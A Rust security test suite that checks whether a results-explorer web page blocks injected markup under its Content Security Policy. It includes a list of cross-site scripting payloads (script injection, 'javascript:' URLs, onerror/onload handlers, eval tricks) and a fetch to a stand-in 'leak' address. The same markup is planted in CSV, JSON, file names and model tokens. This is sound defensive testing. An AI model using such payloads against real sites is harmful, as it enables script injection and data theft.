//! Only the page's own files ever run, because of the policy in the page's head, and because the contents of files and
//! the output of models are shown as text.

use std::path::Path;
use std::time::Duration;

use askew::model::quant::Quant;
use serde_json::json;

use crate::Test;
use crate::chrome::TempDir;
use crate::common::gguf::{Meta, Shape, random_llama};
use crate::page::{Page, quote, strings};
use crate::results::{name, open_row, open_with};

pub(crate) const TESTS: &[Test] = &[
    ("security::what_is_put_into_the_page_does_not_run", what_is_put_into_the_page_does_not_run),
    ("security::hostile_fields_are_text", hostile_fields_are_text),
    ("security::a_hostile_model_is_text", a_hostile_model_is_text),
];

/// Time limit for a model's load and an answer on a software adapter.
const PATIENCE: Duration = Duration::from_secs(60);

/// A script that records what the policy refuses, from the page's start.
const COUNT_REFUSED: &str = "window.refused = [];
    addEventListener('securitypolicyviolation', (event) => window.refused.push(event.effectiveDirective));";

fn count_refused(page: &Page) {
    page.must("Page.addScriptToEvaluateOnNewDocument", json!({ "source": COUNT_REFUSED }));
}

/// The directives of the policy that refused something so far, each once.
fn refused(page: &Page) -> Vec<String> {
    strings(&page.eval("[...new Set(window.refused)].sort()"))
}

/// Ways to run or load something from inside the page, each with the directive that refuses it. `FOREIGN` is replaced
/// by the address of another origin.
const ATTEMPTS: &[(&str, &str)] = &[
    (
        "script-src-elem",
        "const s = document.createElement('script'); s.textContent = 'window.hacked = 1'; document.body.append(s)",
    ),
    (
        "script-src-elem",
        "const s = document.createElement('script'); s.src = 'FOREIGN/hack.js'; document.body.append(s)",
    ),
    (
        "script-src-elem",
        "const s = document.createElement('script'); s.src = 'data:text/javascript,window.hacked = 1'; document.body.append(s)",
    ),
    ("script-src-elem", "location.href = 'javascript:void (window.hacked = 1)'"),
    (
        "script-src-elem",
        "document.body.insertAdjacentHTML('beforeend', '<a id=trap href=\"javascript:window.hacked = 1\">x</a>'); document.querySelector('#trap').click()",
    ),
    (
        "script-src-attr",
        "document.body.insertAdjacentHTML('beforeend', '<img src=\"data:,\" onerror=\"window.hacked = 1\">')",
    ),
    (
        "script-src-attr",
        "document.body.insertAdjacentHTML('beforeend', '<svg onload=\"window.hacked = 1\"></svg>'); document.body.setAttribute('onclick', 'window.hacked = 1'); document.body.click()",
    ),
    ("script-src", "try { new Function('window.hacked = 1')() } catch {}"),
    ("script-src", "setTimeout('window.hacked = 1')"),
    ("worker-src", "try { new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))) } catch {}"),
    ("img-src", "new Image().src = 'FOREIGN/pixel.png'"),
    (
        "img-src",
        "document.body.insertAdjacentHTML('beforeend', '<img src=\"FOREIGN/pixel.png\" srcset=\"FOREIGN/pixel2.png 2x\">')",
    ),
    (
        "style-src-elem",
        "document.body.insertAdjacentHTML('beforeend', '<style>body { background: url(FOREIGN/style.png) }</style>')",
    ),
    (
        "style-src-elem",
        "document.body.insertAdjacentHTML('beforeend', '<link rel=stylesheet href=\"FOREIGN/style.css\">')",
    ),
    ("style-src-attr", "document.body.insertAdjacentHTML('beforeend', '<p style=\"position: fixed; inset: 0\"></p>')"),
    ("media-src", "document.body.insertAdjacentHTML('beforeend', '<video src=\"FOREIGN/film.mp4\"></video>')"),
    ("object-src", "document.body.insertAdjacentHTML('beforeend', '<object data=\"FOREIGN/thing.html\"></object>')"),
    ("frame-src", "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"FOREIGN/frame.html\"></iframe>')"),
    (
        "form-action",
        "document.body.insertAdjacentHTML('beforeend', '<form id=form action=\"FOREIGN/form\" method=post></form>'); document.querySelector('#form').submit()",
    ),
    ("base-uri", "document.head.insertAdjacentHTML('beforeend', '<base href=\"FOREIGN/\">')"),
    ("connect-src", "fetch('http://192.0.2.1/leak').catch(() => 0)"),
];

fn what_is_put_into_the_page_does_not_run(page: &mut Page) {
    page.allow_problem("Content Security Policy");
    count_refused(page);
    // The same server under another name is another origin.
    let foreign = page.server().origin().replace("127.0.0.1", "localhost");
    page.open("/");
    page.wait_for("#by-model .marks button");
    page.wait_for(".source-note a");
    assert_eq!(refused(page), Vec::<String>::new(), "the page itself does nothing that its policy refuses");
    let before = page.server().requests();
    for (directive, attempt) in ATTEMPTS {
        page.eval("void (window.refused.length = 0)");
        // Run the attempt in a task of the page, because code that DevTools evaluates is exempt from the policy.
        let attempt = attempt.replace("FOREIGN", &foreign);
        page.eval(&format!("new Promise((done) => setTimeout(() => {{ {attempt}; setTimeout(done, 30); }}))"));
        page.wait_until(
            &format!("window.refused.includes({})", quote(directive)),
            &format!("{directive} refuses: {attempt}"),
        );
    }
    assert_eq!(page.eval("typeof window.hacked"), "undefined");
    let after = page.server().requests();
    let more: Vec<&String> = after.keys().filter(|path| !before.contains_key(*path)).collect();
    assert!(more.is_empty(), "something was fetched: {more:?}");
    println!("  {} attempts refused", ATTEMPTS.len());
}

/// Markup that would run a script, with the name of its place.
fn hostile(place: &str) -> String {
    format!(
        "<img src=x onerror=\"window.hacked='{place}'\"><script>window.hacked='{place}'</script>\
         <style>*{{display:none}}</style>{place}"
    )
}

/// Elements that could only have come from a file.
const MARKUP: [&str; 8] =
    ["img", "iframe", "body script:not([src])", "style", "main svg", "[onerror]", "[onload]", "a[href^=javascript]"];

fn assert_only_text(page: &Page, where_: &str) {
    for css in MARKUP {
        assert_eq!(page.count(css), 0, "{where_}: {css} came out of a file");
    }
    assert_eq!(page.eval("typeof window.hacked"), "undefined", "{where_}");
    assert_eq!(refused(page), Vec::<String>::new(), "{where_}: not even the policy was needed");
}

/// Writes a table with markup in every field and every column name.
fn write_table(folder: &TempDir) -> std::path::PathBuf {
    let mut writer = csv::Writer::from_writer(Vec::new());
    let usual = ["model", "group", "seed", "category", "question_id", "question", "answer", "aligned", "coherent"];
    let own = [hostile("column one"), hostile("column two")];
    writer.write_record(usual.iter().copied().chain(own.iter().map(String::as_str))).expect("a row");
    for row in 0..12 {
        let mut fields: Vec<String> = usual[..7].iter().map(|place| hostile(place)).collect();
        fields[6] = hostile(&format!("answer {row}"));
        fields.extend(["5", "95", "17", "hostile"].map(ToOwned::to_owned));
        writer.write_record(&fields).expect("a row");
    }
    // One score is markup too, so the row has no number.
    let mut fields: Vec<String> = usual.iter().map(|place| hostile(place)).collect();
    fields.extend(own.clone());
    writer.write_record(&fields).expect("a row");
    let csv = writer.into_inner().expect("rows are in memory");
    folder.write("<img src=x onerror=window.hacked=1><b>.csv", csv)
}

fn hostile_fields_are_text(page: &mut Page) {
    count_refused(page);
    // A saved page has no icon, so browsers request one.
    page.allow_problem("favicon.ico");
    let folder = TempDir::new("hostile");
    let file = write_table(&folder);
    open_with(page, &[&file]);
    page.wait_for("#by-question .marks button");
    assert!(page.text(".source-note").contains(name(&file)), "the file's name is shown: {}", page.text(".source-note"));
    page.eval("document.querySelectorAll('details').forEach(d => d.open = true)");
    page.wait_text("#by-model tbody th", &hostile("model"));
    page.wait_text("#by-question tbody th", &hostile("question_id"));
    assert_only_text(page, "results");
    open_row(page, "#by-model", "<img");
    page.wait_text(".answer-list blockquote", "window.hacked='answer ");
    page.wait_text(".answer-list .asked", &hostile("question"));
    for part in strings(&page.eval("[...document.querySelectorAll('.tab[data-part]')].map(t => t.dataset.part)")) {
        page.click(&format!(".tab[data-part={}]", quote(&part)));
        page.wait_until(
            &format!("location.hash.includes({})", quote(&format!("show={part}"))),
            "the part is in the address",
        );
        page.wait_until("true", "a moment has passed");
        assert_only_text(page, &part);
    }
    more_screens(page, &folder);
    // A search pattern and a link with all the markup, and a reload of them.
    page.set_value("#search", &hostile("search"));
    assert_only_text(page, "search");
    page.set_value("#search", "");
    page.reload();
    page.wait_text(".notice.wait", name(&file));
    assert_only_text(page, "waiting for the file");
    // The same as JSON, with nested names and values.
    let row = json!({ "model": hostile("model"), "question": hostile("question"), "response": hostile("response"),
        "judge": { hostile("key"): hostile("value"), "aligned": 1, "coherent": 99 } });
    let lines = format!("{row}\n").repeat(3);
    let nested = folder.write("<svg onload=window.hacked=1>.jsonl", lines);
    page.open("about:blank");
    open_with(page, &[&nested]);
    page.eval("document.querySelectorAll('details').forEach(d => d.open = true)");
    assert_only_text(page, "nested");
    // The name of a file that cannot be read is shown too.
    let broken = folder.write("<img src=x onerror=window.hacked=2>.csv", hostile("no table"));
    page.drop_files(".page", &[&broken]);
    page.wait_text(".notice.error, .warnings", "onerror=window.hacked=2");
    assert_only_text(page, "refused");
    assert_eq!(page.third_party_requests(), Vec::<String>::new());
}

/// Columns, figures, two models side by side, and a saved page, all with a table of markup.
fn more_screens(page: &Page, folder: &TempDir) {
    page.click("#mapper");
    page.wait_text("table.preview th", &hostile("column one"));
    assert_only_text(page, "columns");
    for kind in ["bars", "heat", "flow"] {
        page.select("#plot", kind);
        page.wait_for("#figure canvas");
        page.eval("document.querySelectorAll('details').forEach(d => d.open = true)");
        assert_only_text(page, kind);
    }
    // Saved pictures and pages are opened elsewhere, where our policy does not apply.
    page.catch_downloads();
    page.click("#figure [data-export='svg']");
    page.downloads(1);
    page.click("#report");
    let taken = page.downloads(2);
    folder.write("figure.svg", &taken[0]);
    folder.write("report.html", &taken[1]);
    page.click_text("nav a", "Compare");
    page.wait_text(".side-by-side blockquote", "window.hacked='answer ");
    assert_only_text(page, "side by side");
    let here = text(&page.eval("location.href"));
    page.server().mount("/saved/", folder.path());
    for name in ["figure.svg", "report.html"] {
        page.open(&format!("/saved/{name}"));
        page.wait_until(
            "document.documentElement.textContent.includes('window.hacked')",
            "the markup is there, as text",
        );
        let found = "document.querySelectorAll('img, iframe, script, [onerror], [onload], foreignObject').length";
        assert_eq!(page.eval(found), 0, "{name}: an element came out of a file");
        assert_eq!(page.eval("typeof window.hacked"), "undefined", "{name}");
    }
    page.open(&here);
    page.wait_for(".notice.wait");
    // Wait until the explorer has replaced the first screen. A drop during the change would be lost; no reader is that
    // fast.
    page.wait_for(".address");
    page.set_files("#files", &[&folder.path().join("<img src=x onerror=window.hacked=1><b>.csv")]);
    page.wait_for(".side-by-side");
    page.click_text("nav a", "Results");
    page.select("#plot", "forest");
    page.wait_for(".answer-list blockquote");
}

fn text(value: &serde_json::Value) -> String {
    value.as_str().unwrap_or_default().to_owned()
}

/// A model with markup as its name, its file name and every token.
fn a_hostile_model_is_text(page: &mut Page) {
    count_refused(page);
    let folder = TempDir::new("hostile-model");
    let shape = Shape { vocab: 1_500, ..Shape::TINY };
    let mut model = random_llama(shape, &[Quant::F32], 1);
    model.set("general.name", Meta::Text(hostile("model")));
    for (key, value) in &mut model.metadata {
        if let (true, Meta::Texts(words)) = (key == "tokenizer.ggml.tokens", value) {
            for (number, word) in words.iter_mut().enumerate().skip(256) {
                *word = format!("<img/src=x/onerror=window.hacked={number}>");
            }
        }
    }
    let file = folder.write("<img src=x onerror=window.hacked=3>.gguf", model.bytes());
    page.open("/#lab");
    page.wait_for("#adapter, #no-gpu");
    page.click("#keep-files");
    page.set_files("#model-file", &[Path::new(&file)]);
    page.wait_for_model(PATIENCE);
    assert!(page.text("#model-card h2").contains("<img src=x"), "{}", page.text("#model-card"));
    assert_only_text(page, "card");
    page.set_value("#prompt", "<b onclick=window.hacked=4>");
    page.set_value("#max-tokens", "8");
    page.click("#generate");
    page.wait_for_long("document.querySelector('#answer')?.dataset.done === 'true'", "an answer", PATIENCE);
    assert!(page.text("#answer").contains("<img/src=x/onerror"), "{}", page.text("#answer"));
    assert_only_text(page, "answer");
    page.wait_text("#kept li", "onerror=window.hacked=3");
    assert_only_text(page, "shelf");
    assert_eq!(page.third_party_requests(), Vec::<String>::new());
}
